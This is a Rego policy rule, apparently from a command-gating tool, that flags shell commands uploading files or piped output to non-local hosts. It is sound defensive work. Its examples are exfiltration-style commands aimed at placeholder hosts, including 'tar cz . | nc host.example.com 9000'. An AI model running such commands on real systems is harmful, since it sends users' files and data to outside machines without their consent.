# METADATA
# title: Files or data sent away
# description: Sends a local file, or what another command printed, to another machine.
# custom:
#   severity: medium
#   remediation: Leave the result in the workspace and say where it is.
#   examples:
#     - curl -T report.pdf https://example.com/up
#     - scp report.pdf host.example.com:/srv/
#     - tar cz . | nc host.example.com 9000
#   lookalikes:
#     - "curl -X POST -d '{\"a\": 1}' https://example.com/api"
#     - curl -F f=@report.pdf http://localhost:8080/up
#     - rsync -a src/ copy/
#     - scp host.example.com:/srv/report.pdf .
package sallyport.rules.network.upload

import data.sallyport.lib

_here := {"localhost", "127.0.0.1", "::1", "0.0.0.0", "host.docker.internal"}

_stays(hosts) if {
	count(hosts) > 0
	every host in hosts {
		host in _here
	}
}

ask contains {"command": i} if {
	some i in lib.with_flag.uploads
	not _stays(input.commands[i].hosts)
}
